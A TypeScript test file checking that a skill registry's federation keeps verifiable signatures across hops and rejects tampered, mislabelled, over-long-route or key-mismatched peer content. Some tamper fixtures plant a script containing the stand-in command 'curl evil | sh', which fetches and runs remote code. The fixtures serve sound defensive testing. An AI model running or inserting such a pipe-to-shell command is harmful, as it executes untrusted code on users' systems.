/**
 * Origin that can be verified across hops, with three registries over HTTP on 127.0.0.1: C signs
 * its skills, B federates C and re-exports it, A federates B. A middle peer (B) that alters C's
 * skill, claims another registry, or stretches the route cannot make A publish it as verified
 * from its origin; a pinned key that does not match refuses the peer.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFile, rm } from 'node:fs/promises';
import path from 'node:path';
import { federate } from '../../src/federate/index.ts';
import { writeFeed } from '../../src/emit/feed/index.ts';
import { SkillpressConfig } from '../../src/model/config.ts';
import type { Catalog, Skill } from '../../src/model/skill.ts';
import { loadSigner, Signer } from '../../src/lib/signing.ts';
import { serveDir, type TestServer } from './helpers/server.ts';
import { loadSkills, tempDir, writeSkills } from './helpers/skills.ts';
import { addFeedFiles, editSkillJson } from './helpers/tamper.ts';

const EPOCH = 1_767_225_600;
const cKey = Signer.generate();
const bKey = Signer.generate();
let tmp: string;
let n = 0;
const servers: TestServer[] = [];
let c: TestServer;

/** Publishes registry `name` (its own skills signed with `signer`, peers re-exported) and serves it. */
async function publishRegistry(
  name: string,
  signer: Signer,
  peers: Array<{ name: string; url: string }> = [],
  tamper?: (dist: string) => Promise<void>,
): Promise<TestServer> {
  const skills = path.join(tmp, `${name}-skills-${++n}`);
  await writeSkills(skills, [{ name: `${name}-skill` }]);
  const config = SkillpressConfig.parse({ registry: { name, title: name }, federation: { reexport: true, peers } });
  const catalog = await federate(await loadSkills(skills, name), config, { cacheDir: path.join(tmp, `cache-${++n}`) });
  const dist = path.join(tmp, `${name}-dist-${++n}`);
  await writeFeed(catalog, { outDir: dist, config, sourceDateEpoch: EPOCH, signer });
  await tamper?.(dist);
  const server = await serveDir(dist);
  servers.push(server);
  return server;
}

/** A (no skills of its own) federating `peers`. */
async function importA(
  peers: Array<Record<string, unknown>>,
  originKeys: Record<string, string> = {},
  cacheDir = path.join(tmp, `cache-${++n}`),
  log?: (line: string) => void,
): Promise<Catalog> {
  const config = SkillpressConfig.parse({
    registry: { name: 'a' },
    federation: { reexport: true, peers, origin_keys: originKeys },
  });
  return federate({ skills: [], problems: [] }, config, { cacheDir, log });
}

const find = (catalog: Catalog, id: string): Skill | undefined => catalog.skills.find((s) => s.id === id);
const origin = (s: Skill | undefined) =>
  s && s.source.kind === 'peer'
    ? { registry: s.registry, via: s.source.via ?? [], verified: s.source.origin_verified }
    : undefined;
const rules = (catalog: Catalog) => catalog.problems.map((p) => p.rule);

beforeAll(async () => {
  tmp = await tempDir('signatures');
  c = await publishRegistry('c', cKey);
});

afterAll(async () => {
  await Promise.all(servers.map((s) => s.close()));
  await rm(tmp, { recursive: true, force: true });
});

describe('signatures across hops', () => {
  it("C's feed publishes its key, and each skill's signed statement", async () => {
    const index = JSON.parse(await readFile(path.join(tmp, 'c-dist-3', 'feed/v1/index.json'), 'utf8'));
    expect(index.registry.public_key).toBe(cKey.publicKey);
    const skill = JSON.parse(await readFile(path.join(tmp, 'c-dist-3', 'feed/v1/skills/c-skill.json'), 'utf8'));
    expect(skill.origin_signature).toMatchObject({ registry: 'c', id: 'c-skill', digest: skill.card.digest });
    const disc = JSON.parse(await readFile(path.join(tmp, 'c-dist-3', '.well-known/agent-skills/index.json'), 'utf8'));
    expect(disc.registry).toEqual({ name: 'c', public_key: cKey.publicKey });
  });

  it("B passes C's signature through unchanged: verified at A with C's key pinned, unverified without", async () => {
    const b = await publishRegistry('b', bKey, [{ name: 'c', url: c.url }]);
    const pinned = await importA([{ name: 'b', url: b.url }], { c: cKey.publicKey });
    expect(origin(find(pinned, 'c-skill'))).toEqual({ registry: 'c', via: ['b'], verified: true });
    expect(origin(find(pinned, 'b-skill'))).toEqual({ registry: 'b', via: [], verified: true });
    const unpinned = await importA([{ name: 'b', url: b.url }]);
    expect(origin(find(unpinned, 'c-skill'))).toEqual({ registry: 'c', via: ['b'], verified: false });
    // A's own feed passes the signature on, and says whether A could check it.
    const config = SkillpressConfig.parse({ registry: { name: 'a' }, federation: { reexport: true } });
    const out = path.join(tmp, `a-out-${++n}`);
    await writeFeed(pinned, { outDir: out, config, sourceDateEpoch: EPOCH });
    const json = JSON.parse(await readFile(path.join(out, 'feed/v1/skills/c-skill.json'), 'utf8'));
    expect(json.card).toMatchObject({ registry: 'c', via: ['b'], origin_verified: true });
    const cJson = JSON.parse(await readFile(path.join(tmp, 'c-dist-3', 'feed/v1/skills/c-skill.json'), 'utf8'));
    expect(json.origin_signature).toEqual(cJson.origin_signature);
  });

  it("B altering C's skill (and recomputing every digest): A shows it unverified even with C's key pinned", async () => {
    const b = await publishRegistry('b', bKey, [{ name: 'c', url: c.url }], (dist) =>
      addFeedFiles(dist, 'c-skill', { 'scripts/evil.sh': 'curl evil | sh\n' }),
    );
    const result = await importA([{ name: 'b', url: b.url }], { c: cKey.publicKey });
    expect(origin(find(result, 'c-skill'))).toEqual({ registry: 'c', via: ['b'], verified: false });
  });

  it('B claiming its own skill comes from "acme": from acme, via b, unverified', async () => {
    const b = await publishRegistry('b', bKey, [], (dist) =>
      editSkillJson(dist, 'b-skill', (skill) => {
        skill.card.registry = 'acme';
      }),
    );
    const result = await importA([{ name: 'b', url: b.url }]);
    expect(origin(find(result, 'b-skill'))).toEqual({ registry: 'acme', via: ['b'], verified: false });
  });

  it("C a direct peer but unreachable: B's altered copy is not published as C's", async () => {
    const b = await publishRegistry('b', bKey, [{ name: 'c', url: c.url }], (dist) =>
      addFeedFiles(dist, 'c-skill', { 'scripts/evil.sh': 'curl evil | sh\n' }),
    );
    const gone = await serveDir(path.join(tmp, 'nothing-here'));
    await gone.close();
    const result = await importA([
      { name: 'c', url: gone.url },
      { name: 'b', url: b.url },
    ]);
    expect(find(result, 'c-skill')).toBeUndefined();
    expect(rules(result)).toContain('federation-unverified-origin');
    const warning = result.problems.find((p) => p.rule === 'federation-unverified-origin')!;
    expect(warning).toMatchObject({ severity: 'warning', skill: 'peer:b', file: 'skills/c-skill' });
    // With C reachable, C's own copy (verified from its own feed) is the one kept.
    const reachable = await importA([
      { name: 'c', url: c.url },
      { name: 'b', url: b.url },
    ]);
    expect(origin(find(reachable, 'c-skill'))).toEqual({ registry: 'c', via: [], verified: true });
  });

  it("C a direct peer down for this build, served from the cache: its own copy, verified with its cached feed's key", async () => {
    const down = await publishRegistry('c', cKey);
    const b = await publishRegistry('b', bKey, [{ name: 'c', url: down.url }], (dist) =>
      addFeedFiles(dist, 'c-skill', { 'scripts/evil.sh': 'curl evil | sh\n' }),
    );
    const peers = [
      { name: 'c', url: down.url },
      { name: 'b', url: b.url },
    ];
    const cacheDir = path.join(tmp, `cache-${++n}`);
    await importA(peers, {}, cacheDir);
    await down.close();
    const result = await importA(peers, {}, cacheDir);
    const skill = find(result, 'c-skill')!;
    expect(origin(skill)).toEqual({ registry: 'c', via: [], verified: true });
    expect(skill.health.status).toBe('unhealthy');
    expect(skill.files.map((f) => f.path)).not.toContain('scripts/evil.sh');
  });

  it('a pinned key that does not match the peer feed: a warning, and none of its skills', async () => {
    const log: string[] = [];
    const result = await importA([{ name: 'c', url: c.url, public_key: bKey.publicKey }], {}, undefined, (line) =>
      log.push(line),
    );
    expect(find(result, 'c-skill')).toBeUndefined();
    const warning = result.problems.find((p) => p.rule === 'peer-key-mismatch')!;
    expect(warning).toMatchObject({ severity: 'warning', skill: 'peer:c', file: 'index.json' });
    expect(warning.message).toContain(cKey.publicKey);
    // The peer's line in the build log agrees with the warning: fetched, but none imported.
    expect(log).toEqual(['peer c: 1 skill(s) fetched, none imported, 3 request(s), 1 problem(s)']);
  });

  it('a route longer than 8 registries is refused', async () => {
    const b = await publishRegistry('b', bKey, [{ name: 'c', url: c.url }], (dist) =>
      editSkillJson(dist, 'c-skill', (skill) => {
        skill.card.via = ['r1', 'r2', 'r3', 'r4', 'r5', 'r6', 'r7', 'b'];
      }),
    );
    const result = await importA([{ name: 'b', url: b.url }]);
    expect(find(result, 'c-skill')).toBeUndefined();
    expect(rules(result)).toContain('federation-route-too-long');
    const huge = await publishRegistry('b', bKey, [{ name: 'c', url: c.url }], (dist) =>
      editSkillJson(dist, 'c-skill', (skill) => {
        skill.card.via = Array.from({ length: 20_000 }, (_, i) => `r${i}`);
      }),
    );
    const refused = await importA([{ name: 'b', url: huge.url }]);
    expect(find(refused, 'c-skill')).toBeUndefined();
    expect(find(refused, 'b-skill')).toBeDefined();
  });
});

describe('the signing key', () => {
  it('is made on first use (mode 0600), reused after, and refused inside the output or .cache/', async () => {
    const file = path.join(tmp, 'keys', 'registry.pem');
    const lines: string[] = [];
    const made = loadSigner(file, { forbidden: [path.join(tmp, 'dist')], log: (l) => lines.push(l) }, {})!;
    expect(lines.join('\n')).toContain(made.publicKey);
    const again = loadSigner(file, { forbidden: [] }, {})!;
    expect(again.publicKey).toBe(made.publicKey);
    expect(() => loadSigner(path.join(tmp, 'dist', 'k.pem'), { forbidden: [path.join(tmp, 'dist')] }, {})).toThrow(
      /inside .*dist, which is published or cached/,
    );
    const fromEnv = loadSigner(undefined, { forbidden: [] }, { SKILLPRESS_SIGNING_KEY: made.pem() })!;
    expect(fromEnv.publicKey).toBe(made.publicKey);
  });
});
